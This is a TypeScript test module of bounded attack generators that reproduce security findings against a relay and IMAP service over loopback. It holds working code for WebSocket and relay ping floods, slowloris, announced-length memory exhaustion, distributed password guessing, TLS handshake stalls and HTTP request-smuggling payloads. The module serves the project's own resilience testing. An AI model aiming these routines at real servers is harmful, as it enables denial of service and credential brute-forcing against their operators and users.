/**
 * @module
 * Attack generators for issue 9 (hostile clients), each reproducing one
 * finding against a real listener over real loopback sockets. Written from
 * the specs (`support/wire.ts`), not from the relay's codecs.
 *
 * Every attack is bounded: a count of connections, a duration and an
 * `AbortSignal`; it stops early when the server disconnects it. Attack
 * connections come from 127.0.0.2+ (`support/sock.ts`) so per-source limits
 * can tell them from the legitimate client on 127.0.0.1. Each returns what
 * the attacker saw (bytes sent, connections the server closed, replies);
 * the tests and the soak judge the service by its own numbers (RSS, fds,
 * metrics, probe latency).
 */

import { ATTACKER, attackerSources, AttackSocket, closedByServer, connectMany, destroyAll } from "./support/sock.ts";
import {
  bytes,
  cat,
  clientHello,
  clientInfoPayload,
  DERP,
  derpFrame,
  derpHeader,
  headEnd,
  newIdentity,
  type UpgradeKind,
  upgradeRequest,
  WS,
  wsFrame,
  wsHeader,
} from "./support/wire.ts";

/** Bounds shared by every attack. */
export interface Bounds {
  /** Stop after this long, ms. */
  durationMs: number;
  /** Stop when aborted (e.g. the monitor saw RSS over its cap). */
  signal?: AbortSignal;
}

/** What an attacker saw. */
export interface AttackReport {
  /** Connections opened. */
  connections: number;
  /** Connections that failed to open (refused, reset, timed out). */
  connectFailures: number;
  /** Connections the server closed while the attacker kept them. */
  closedByServer: number;
  /** Bytes written. */
  bytesSent: number;
  /** Wall time, ms. */
  ms: number;
  /** Attack-specific observations. */
  notes: Record<string, number | string>;
}

function report(partial: Partial<AttackReport> & { t0: number }): AttackReport {
  return {
    connections: partial.connections ?? 0,
    connectFailures: partial.connectFailures ?? 0,
    closedByServer: partial.closedByServer ?? 0,
    bytesSent: partial.bytesSent ?? 0,
    ms: Math.round(performance.now() - partial.t0),
    notes: partial.notes ?? {},
  };
}

function over(b: Bounds, t0: number): boolean {
  return b.signal?.aborted === true || performance.now() - t0 >= b.durationMs;
}

/** Resolves after `ms`, or at once when aborted. */
function pause(ms: number, signal?: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const t = setTimeout(done, ms);
    function done() {
      clearTimeout(t);
      signal?.removeEventListener("abort", done);
      resolve();
    }
    signal?.addEventListener("abort", done);
  });
}

/** Sends the `/relay` upgrade of `kind` and waits for the 101. */
export async function upgrade(s: AttackSocket, kind: UpgradeKind, timeoutMs = 5000): Promise<boolean> {
  await s.write(upgradeRequest(kind));
  const ok = await s.readUntil((b) => headEnd(b) >= 0, timeoutMs);
  return ok && s.text().startsWith("HTTP/1.1 101");
}

/**
 * WebSocket ping flood without reading (finding 1): upgrade on `/relay`
 * (1.x or 0.35 WebSocket), then 125-byte pings as fast as the socket takes
 * them, never reading a pong. Stops when the server disconnects us, after
 * `maxBytes`, or at the bound. `notes.closedAfterBytes` is what the server
 * took before cutting us off.
 */
export async function wsPingFlood(
  port: number,
  kind: "v1x" | "ws035",
  b: Bounds & { maxBytes?: number; source?: string },
): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, b.source ?? ATTACKER);
  if (!await upgrade(s, kind)) {
    s.destroy();
    throw new Error(`upgrade refused: ${s.text().split("\r\n")[0]}`);
  }
  s.stopReading();
  const ping = wsFrame(WS.ping, new Uint8Array(125).fill(0x61));
  const batch = cat(...Array.from({ length: 512 }, () => ping)); // 67 KiB
  let sent = 0;
  while (s.open && !over(b, t0) && sent < (b.maxBytes ?? 2 ** 32)) {
    await s.write(batch);
    sent += batch.length;
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent, notes: { kind } });
}

/**
 * Relay-level Ping flood without reading: a 0.35 derp client authenticates
 * (signed ClientInfo) and sends derp Ping frames (type 12) as fast as it
 * can; every Pong the relay owes us is an outgoing frame that must be capped.
 */
export async function derpPingFlood(port: number, b: Bounds & { maxBytes?: number }): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  if (!await upgrade(s, "derp")) throw new Error("derp upgrade refused");
  await s.write(derpFrame(DERP.clientInfo, clientInfoPayload(newIdentity().secret)));
  s.stopReading();
  const ping = derpFrame(DERP.ping, new Uint8Array(8).fill(7));
  const batch = cat(...Array.from({ length: 4096 }, () => ping)); // 52 KiB
  let sent = 0;
  while (s.open && !over(b, t0) && sent < (b.maxBytes ?? 2 ** 32)) {
    await s.write(batch);
    sent += batch.length;
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent });
}

/** How a lying frame header is spelled. */
export type AnnounceKind = "derp" | "ws16" | "ws64" | "ws64huge";

/**
 * Headers that announce far more than they bring (finding 2): on each of
 * `connections` connections (spread over `sources` attacker addresses), the
 * upgrade, then a frame header announcing 1 MiB (`ws16`: 65535 bytes,
 * `ws64huge`: 2^62) and 16 bytes of it. The connections are held until
 * the bound, then closed. `notes.heldAtEnd` is how many the server kept.
 */
export async function announcedLengthFlood(
  port: number,
  kind: AnnounceKind,
  b: Bounds & { connections: number; sources?: number; holdMs?: number; waves?: number; onHeld?: () => Promise<void> },
): Promise<AttackReport> {
  // Earlier waves, opened and closed: after large buffers were freed, the
  // allocator serves the next ones from its heap (zeroed, so resident)
  // rather than fresh lazily-mapped pages. The first run of the finding
  // showed the growth only from the third wave of 2,000 on.
  for (let w = 1; w < (b.waves ?? 1) && !b.signal?.aborted; w++) {
    await announcedLengthFlood(port, kind, { ...b, waves: 1, holdMs: 0, onHeld: async () => {} });
  }
  const t0 = performance.now();
  const sources = attackerSources(b.sources ?? 10);
  const { sockets, failed } = await connectMany(port, b.connections, sources, {
    concurrency: 32,
    deadline: Date.now() + b.durationMs,
  });
  const header = kind === "derp"
    ? derpHeader(DERP.clientInfo, 1 << 20)
    : kind === "ws16"
    ? wsHeader(WS.binary, 65535, 16)
    : kind === "ws64"
    ? wsHeader(WS.binary, 1 << 20, 64)
    : wsHeader(WS.binary, 1n << 62n, 64);
  const lie = cat(header, new Uint8Array(16).fill(0x41));
  const upgradeKind: UpgradeKind = kind === "derp" ? "derp" : "v1x";
  let sent = 0;
  let upgraded = 0;
  let i = 0;
  await Promise.all(Array.from({ length: 32 }, async () => {
    while (i < sockets.length && !over(b, t0)) {
      const s = sockets[i++]!;
      if (await upgrade(s, upgradeKind).catch(() => false)) {
        upgraded++;
        await s.write(lie);
        sent += lie.length;
      }
    }
  }));
  await b.onHeld?.();
  await pause(Math.max(0, Math.min(b.holdMs ?? 0, b.durationMs - (performance.now() - t0))), b.signal);
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    bytesSent: sent,
    notes: { upgraded, heldAtEnd: sockets.length - closed },
  });
}

/**
 * IMAP login (any credentials; `login = "any"`) then `LIST "" "<stars>Z"`
 * (finding 3). Resolves with the time the tagged reply took (`notes.listMs`,
 * -1 if none within the bound) and the reply.
 */
export async function imapListStars(port: number, b: Bounds & { stars?: number }): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  const greeted = await s.readUntil((x) => x.includes(10), 5000);
  if (!greeted) throw new Error("no IMAP greeting");
  await s.write("a LOGIN attacker x\r\n");
  await s.readUntil((x) => /\r\na [^\r]*\r\n/.test(new TextDecoder().decode(x)), 5000);
  const pattern = "*".repeat(b.stars ?? 85) + "Z";
  const before = s.received.length;
  const tList = performance.now();
  await s.write(`b LIST "" "${pattern}"\r\n`);
  const ok = await s.readUntil(
    (x) => /(^|\n)b [^\r]*\r\n/.test(new TextDecoder().decode(x.subarray(before))),
    Math.max(1, b.durationMs - (performance.now() - t0)),
  );
  const listMs = ok ? Math.round(performance.now() - tList) : -1;
  const reply = new TextDecoder().decode(s.received.subarray(before)).trim().split("\r\n").at(-1) ?? "";
  s.destroy();
  return report({ t0, connections: 1, notes: { listMs, reply: reply.slice(0, 120) } });
}

/**
 * Proxy mode (finding 4): one command the upstream never answers (`a NOOP`,
 * forwarded), then pipelined `GETMETADATA` lines that we answer locally but
 * must queue behind it, as fast as the socket takes them, never reading.
 * No login needed.
 */
export async function proxyPipelineFlood(port: number, b: Bounds & { maxBytes?: number }): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  await s.readUntil((x) => x.includes(10), 5000);
  await s.write("a NOOP\r\n");
  s.stopReading();
  const line = bytes('b GETMETADATA "" (/shared/comment /shared/admin /shared/vendor/deltachat/irohrelay)\r\n');
  const batch = cat(...Array.from({ length: 512 }, () => line)); // ~45 KiB
  let sent = 0;
  while (s.open && !over(b, t0) && sent < (b.maxBytes ?? 2 ** 30)) {
    await s.write(batch);
    sent += batch.length;
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent });
}

/**
 * Idle TCP connections from one source (finding 5, `n` = 1000 in the issue):
 * opened as fast as the server accepts them, held silent until the bound.
 * `onHeld` runs while they are held (the test's probes).
 */
export async function idleConnections(
  port: number,
  b: Bounds & { n: number; source?: string; onHeld?: () => Promise<void> },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, [b.source ?? ATTACKER], {
    concurrency: 50,
    timeoutMs: 2000,
    deadline: Date.now() + b.durationMs,
  });
  await b.onHeld?.();
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({ t0, connections: sockets.length, connectFailures: failed, closedByServer: closed });
}

/**
 * Password guessing (finding 6): `sessions` IMAP sessions spread over
 * `sources` addresses, each sending `LOGIN <user> guessN` again after every
 * answer until the bound. `notes` counts the answers by kind.
 */
export async function passwordGuessing(
  port: number,
  b: Bounds & { sessions: number; sources: number; user: string },
): Promise<AttackReport> {
  const t0 = performance.now();
  const counts = { no: 0, unavailable: 0, bye: 0, ok: 0, attempts: 0 };
  const { sockets, failed } = await connectMany(port, b.sessions, attackerSources(b.sources), {
    concurrency: 64,
    timeoutMs: 3000,
    deadline: Date.now() + b.durationMs,
  });
  await Promise.all(sockets.map(async (s, k) => {
    if (!await s.readUntil((x) => x.includes(10), 5000)) return;
    if (s.text().startsWith("* BYE")) {
      counts.bye++;
      return;
    }
    for (let n = 0; s.open && !over(b, t0); n++) {
      const tag = `g${n}`;
      const before = s.received.length;
      counts.attempts++;
      await s.write(`${tag} LOGIN "${b.user}" "guess-${k}-${n}"\r\n`);
      const re = new RegExp(`(^|\\n)(${tag} [^\\r]*|\\* BYE[^\\r]*)\\r\\n`);
      const got = await s.readUntil(
        (x) => re.test(new TextDecoder().decode(x.subarray(before))),
        Math.max(1, b.durationMs - (performance.now() - t0)),
      );
      if (!got) break;
      const text = new TextDecoder().decode(s.received.subarray(before));
      if (/\* BYE/.test(text)) counts.bye++;
      else if (/UNAVAILABLE/.test(text)) counts.unavailable++;
      else if (new RegExp(`${tag} OK`).test(text)) counts.ok++;
      else counts.no++;
    }
  }));
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({ t0, connections: sockets.length, connectFailures: failed, closedByServer: closed, notes: counts });
}

/**
 * Slowloris on an HTTP listener (finding 7, the metrics port): `n`
 * connections each sending a request line and then one header byte every
 * `everyMs`, never finishing the head. `notes.openAtEnd` is how many the
 * server still held at the bound.
 */
export async function slowloris(
  port: number,
  b: Bounds & { n: number; sources?: number; everyMs?: number; stopWhenAllClosed?: boolean },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, attackerSources(b.sources ?? 1), {
    concurrency: 50,
    deadline: Date.now() + b.durationMs,
  });
  let sent = 0;
  for (const s of sockets) {
    s.write("GET /metrics HTTP/1.1\r\nHost: x\r\nX-a: ");
  }
  while (!over(b, t0)) {
    if (b.stopWhenAllClosed && sockets.every((s) => !s.open)) break;
    for (const s of sockets) {
      if (s.open) {
        s.write("a");
        sent++;
      }
    }
    await pause(b.everyMs ?? 1000, b.signal);
  }
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    bytesSent: sent,
    notes: { openAtEnd: sockets.length - closed },
  });
}

/** Request-smuggling probes (finding 8): the head of each, sent alone on a fresh connection. */
export const SMUGGLING = {
  "two Content-Length": "POST /ping HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 44\r\n\r\n" +
    "hello" + "GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n",
  "Content-Length list": "POST /ping HTTP/1.1\r\nHost: x\r\nContent-Length: 5, 44\r\n\r\nhello",
  "Transfer-Encoding and Content-Length":
    "POST /ping HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
} as const;

/**
 * Sends one smuggling probe and reads what comes back until the server
 * closes or `timeoutMs`. Returns the status lines seen and whether it closed.
 */
export async function smuggle(
  port: number,
  request: string,
  timeoutMs = 3000,
): Promise<{ statuses: number[]; closed: boolean }> {
  const s = await AttackSocket.connect(port, ATTACKER);
  await s.write(request);
  await s.readUntil(() => false, timeoutMs);
  const statuses = [...s.text().matchAll(/HTTP\/1\.1 (\d{3})/g)].map((m) => Number(m[1]));
  const closed = s.closedByPeer;
  s.destroy();
  return { statuses, closed };
}

/**
 * Connections stuck in the TLS handshake (second run, finding 1): `n`
 * connections that say nothing (`silent`) or send a ClientHello and then
 * nothing (`hello`), held until the bound. `notes.serverHellos` counts
 * ClientHellos the server answered (proof the hello was good).
 */
export async function tlsStall(
  port: number,
  mode: "silent" | "hello",
  b: Bounds & {
    n: number;
    sources?: number;
    sourceOffset?: number;
    onHeld?: (sockets: AttackSocket[]) => Promise<void>;
  },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, attackerSources(b.sources ?? 4, b.sourceOffset), {
    concurrency: 50,
    deadline: Date.now() + b.durationMs,
  });
  let serverHellos = 0;
  if (mode === "hello") {
    await Promise.all(sockets.map(async (s) => {
      await s.write(clientHello());
      if (await s.readUntil((x) => x.length > 0, 3000) && s.received[0] === 0x16) serverHellos++;
    }));
  }
  await b.onHeld?.(sockets);
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    notes: { serverHellos },
  });
}

/**
 * One 0.35 ClientInfo, signed once, replayed on `n` derp connections (second
 * run, log flooding): each new connection with the same key replaces the
 * previous one. Connections are opened `concurrency` at a time from
 * `sources` addresses and each is held until the server closes it or 2 s.
 */
export async function replayClientInfo(
  port: number,
  b: Bounds & { n: number; sources?: number; concurrency?: number },
): Promise<AttackReport> {
  const t0 = performance.now();
  const frame = derpFrame(DERP.clientInfo, clientInfoPayload(newIdentity().secret));
  const sources = attackerSources(b.sources ?? 8);
  let opened = 0, failed = 0, closed = 0, next = 0;
  await Promise.all(Array.from({ length: b.concurrency ?? 16 }, async () => {
    while (next < b.n && !over(b, t0)) {
      const k = next++;
      let s: AttackSocket;
      try {
        s = await AttackSocket.connect(port, sources[k % sources.length]!, 2000);
      } catch {
        failed++;
        continue;
      }
      opened++;
      if (await upgrade(s, "derp", 2000).catch(() => false)) {
        await s.write(frame);
        await s.readUntil(() => false, 50);
      }
      if (s.closedByPeer) closed++;
      s.destroy();
    }
  }));
  return report({ t0, connections: opened, connectFailures: failed, closedByServer: closed });
}

/**
 * A long IMAP line whose end arrives one byte at a time (finding 9):
 * `a LOGIN `, `prefix` bytes of an atom in one write, then `trickle` more
 * bytes one per write every `everyMs` (each its own TCP segment, no Nagle,
 * so each is its own read on the server while the line is already long).
 * Never sends the CRLF. A server that re-copies the buffer per read pays
 * `prefix` bytes of copying per trickled byte.
 */
export async function slowLongLine(
  port: number,
  b: Bounds & { prefix: number; trickle: number; everyMs?: number },
): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  await s.readUntil((x) => x.includes(10), 5000);
  await s.write("a LOGIN ");
  await s.write(new Uint8Array(b.prefix).fill(0x78));
  let sent = b.prefix;
  const one = bytes("x");
  for (let i = 0; i < b.trickle && s.open && !over(b, t0); i++) {
    await s.write(one);
    sent++;
    if (b.everyMs) await pause(b.everyMs, b.signal);
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent });
}

/**
 * Handshakes that each make the relay ask its access service (`access.http`):
 * `n` derp clients with fresh keys (a valid signed ClientInfo each), opened
 * `concurrency` at a time from `sources` addresses and held until the
 * server closes them or the bound. `onHeld` runs once all were sent.
 */
export async function accessCheckStorm(
  port: number,
  b: Bounds & { n: number; sources?: number; concurrency?: number; onHeld?: () => Promise<void> },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, attackerSources(b.sources ?? 5), {
    concurrency: b.concurrency ?? 50,
    deadline: Date.now() + b.durationMs,
  });
  let upgraded = 0;
  let next = 0;
  await Promise.all(Array.from({ length: b.concurrency ?? 50 }, async () => {
    while (next < sockets.length && !over(b, t0)) {
      const s = sockets[next++]!;
      if (await upgrade(s, "derp", 3000).catch(() => false)) {
        upgraded++;
        await s.write(derpFrame(DERP.clientInfo, clientInfoPayload(newIdentity().secret)));
      }
    }
  }));
  await b.onHeld?.();
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    notes: { upgraded },
  });
}
